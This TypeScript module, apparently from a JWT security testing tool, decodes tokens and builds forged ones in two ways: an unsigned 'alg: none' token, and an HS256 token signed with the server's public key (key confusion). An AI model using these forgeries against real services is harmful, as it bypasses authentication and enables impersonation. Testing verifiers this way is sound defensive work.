import { createHmac, createPublicKey, type JsonWebKey } from 'node:crypto';

/** A JWT's decoded header and payload (nothing verified). */
export interface DecodedJwt {
  readonly header: Record<string, unknown>;
  readonly payload: Record<string, unknown>;
}

function decodePart(part: string): Record<string, unknown> | undefined {
  try {
    const value: unknown = JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));
    return value && typeof value === 'object' && !Array.isArray(value)
      ? (value as Record<string, unknown>)
      : undefined;
  } catch {
    return undefined;
  }
}

/** The header and payload of a compact JWS, or undefined for anything else (an opaque token). */
export function decodeJwt(token: string): DecodedJwt | undefined {
  const parts = token.split('.');
  if (
    parts.length !== 3 ||
    !/^[A-Za-z0-9_-]+$/.test(parts[0]!) ||
    !/^[A-Za-z0-9_-]+$/.test(parts[1]!)
  ) {
    return undefined;
  }
  const header = decodePart(parts[0]!);
  const payload = decodePart(parts[1]!);
  return header && payload && typeof header.alg === 'string' ? { header, payload } : undefined;
}

const encode = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');

/** The same claims with `alg: none` and no signature (RFC 8725 §2.1). */
export function forgeUnsigned(jwt: DecodedJwt): string {
  return `${encode({ ...jwt.header, alg: 'none' })}.${encode(jwt.payload)}.`;
}

/**
 * The same claims signed HS256 with the server's public key (PEM) as the HMAC secret: a
 * verifier that takes the algorithm from the header accepts it (RFC 8725 §2.1, §3.1).
 */
export function forgeWithPublicKey(
  jwt: DecodedJwt,
  jwk: Record<string, unknown>,
): string | undefined {
  let pem: string;
  try {
    pem = createPublicKey({ key: publicPart(jwk), format: 'jwk' })
      .export({ type: 'spki', format: 'pem' })
      .toString();
  } catch {
    return undefined;
  }
  const input = `${encode({ ...jwt.header, alg: 'HS256' })}.${encode(jwt.payload)}`;
  return `${input}.${createHmac('sha256', pem).update(input).digest('base64url')}`;
}

/** Private members a public JWK must never carry. */
export const PRIVATE_JWK_MEMBERS = ['d', 'p', 'q', 'dp', 'dq', 'qi', 'k'] as const;

function publicPart(jwk: Record<string, unknown>): JsonWebKey {
  const copy: Record<string, unknown> = { ...jwk };
  for (const member of PRIVATE_JWK_MEMBERS) delete copy[member];
  return copy as JsonWebKey;
}

/** True for HMAC algorithms (a shared secret signs and verifies). */
export const isSymmetricAlg = (alg: string): boolean => /^HS\d+$/i.test(alg);
